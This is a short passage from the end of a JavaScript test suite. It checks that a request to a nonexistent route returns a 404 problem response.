    const res2 = await app.client().get('/no/such/thing');
    assertProblem(res2, 404);
  });
});
